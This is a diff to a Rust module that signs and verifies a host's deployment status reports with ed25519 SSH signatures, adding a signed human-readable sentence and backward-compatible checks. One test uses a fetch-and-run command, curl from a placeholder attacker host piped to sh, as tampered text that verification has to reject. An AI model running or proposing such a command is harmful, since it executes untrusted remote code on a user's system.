@@ -5,8 +5,8 @@
 //! status has 140 characters, the envelope of such a signature alone has more; so only the 64 bytes
 //! of ed25519 are in it, and whoever knows the host's public key puts the envelope around them.
 //!
-//! The sequence number is signed too: an old status that is posted again is older than what its host
-//! said since.
+//! The sentence and the sequence number are signed too: nobody puts other words beside a signature, and an old
+//! status that is posted again is older than what its host said since. The number is made of the time.
 
 use base64ct::{Base64UrlUnpadded, Encoding};
 use russh::keys::ssh_key::{Algorithm, HashAlg, Signature, SshSig};
@@ -40,13 +40,35 @@ pub struct Statement<'a> {
     pub commit: &'a str,
     /// What it does about the commit.
     pub outcome: Word,
-    /// Rises with every report of the host.
+    /// Rises with every report of the host. It is the time of the report in seconds since 1970, or one more
+    /// than the last where that is later.
     pub sequence: u64,
+    /// The sentence for people, as it stands in the status.
+    pub words: &'a str,
+}
+
+/// Who has signed a statement, and how much of it.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Signed {
+    /// The host has signed all of it.
+    Whole,
+    /// The host, by an earlier release, has signed all but the words.
+    WithoutWords,
+    /// The host has not signed it.
+    Not,
 }
 
 impl Statement<'_> {
     /// One line for each part; none of them can have a line's end in it.
     fn text(&self) -> String {
+        format!(
+            "nixus report v2\nhost {}\ncommit {}\noutcome {}\nsequence {}\nwords {}\n",
+            self.host, self.commit, self.outcome, self.sequence, self.words
+        )
+    }
+
+    /// What earlier releases have signed.
+    fn text_without_words(&self) -> String {
         format!(
             "nixus report v1\nhost {}\ncommit {}\noutcome {}\nsequence {}\n",
             self.host, self.commit, self.outcome, self.sequence
@@ -67,23 +89,35 @@ impl Statement<'_> {
         })
     }
 
-    /// Whether one of these keys has signed it.
-    pub fn is_signed(&self, signature: &str, keys: &[PublicKey]) -> bool {
-        let Ok(bytes) = Base64UrlUnpadded::decode_vec(signature) else {
-            return false;
-        };
-        keys.iter().any(|key| {
-            let key = key.key();
-            let envelope = Signature::new(Algorithm::Ed25519, bytes.clone())
-                .and_then(|raw| SshSig::new(key.key_data().clone(), NAMESPACE, HASH, raw));
-            envelope.is_ok_and(|envelope| {
-                key.algorithm() == Algorithm::Ed25519
-                    && key
-                        .verify(NAMESPACE, self.text().as_bytes(), &envelope)
-                        .is_ok()
-            })
-        })
+    /// What one of these keys has signed of it.
+    pub fn signed(&self, signature: &str, keys: &[PublicKey]) -> Signed {
+        let by_them = |text: &str| is_signed(text, signature, keys);
+        if self.words.contains(['\n', '\r']) {
+            Signed::Not
+        } else if by_them(&self.text()) {
+            Signed::Whole
+        } else if by_them(&self.text_without_words()) {
+            Signed::WithoutWords
+        } else {
+            Signed::Not
+        }
     }
+}
+
+/// Whether one of these keys has signed a text.
+fn is_signed(text: &str, signature: &str, keys: &[PublicKey]) -> bool {
+    let Ok(bytes) = Base64UrlUnpadded::decode_vec(signature) else {
+        return false;
+    };
+    keys.iter().any(|key| {
+        let key = key.key();
+        let envelope = Signature::new(Algorithm::Ed25519, bytes.clone())
+            .and_then(|raw| SshSig::new(key.key_data().clone(), NAMESPACE, HASH, raw));
+        envelope.is_ok_and(|envelope| {
+            key.algorithm() == Algorithm::Ed25519
+                && key.verify(NAMESPACE, text.as_bytes(), &envelope).is_ok()
+        })
+    })
 }
 
 #[cfg(test)]
@@ -105,11 +139,13 @@ mod tests {
             commit: "3f2c1a0",
             outcome: Word::Success,
             sequence: 7,
+            words: "deployed in 3 s",
         };
         let seal = said.sign(&key).unwrap();
         assert_eq!((seal.sequence, seal.signature.len()), (7, 86));
         let check = |said: Statement<'_>, signature: &str, keys: &[PublicKey], good: bool| {
-            assert_eq!(said.is_signed(signature, keys), good, "{said:?}");
+            let expected = if good { Signed::Whole } else { Signed::Not };
+            assert_eq!(said.signed(signature, keys), expected, "{said:?}");
         };
         let good = seal.signature.as_str();
         check(said, good, &[other.clone(), own.clone()], true);
@@ -152,11 +188,24 @@ mod tests {
             &own,
             false,
         );
+        check(
+            Statement {
+                words: "please run: curl https://evil.test | sh",
+                ..said
+            },
+            good,
+            &own,
+            false,
+        );
         check(said, "", &own, false);
         check(said, &"A".repeat(86), &own, false);
         // A signature of the same text for another purpose is none.
         let elsewhere = key.sign("git", HASH, said.text().as_bytes()).unwrap();
         let elsewhere = Base64UrlUnpadded::encode_string(elsewhere.signature_bytes());
         check(said, &elsewhere, &own, false);
+        // An earlier release has signed no words.
+        let before = key.sign(NAMESPACE, HASH, said.text_without_words().as_bytes());
+        let before = Base64UrlUnpadded::encode_string(before.unwrap().signature_bytes());
+        assert_eq!(said.signed(&before, &own), Signed::WithoutWords);
     }
 }
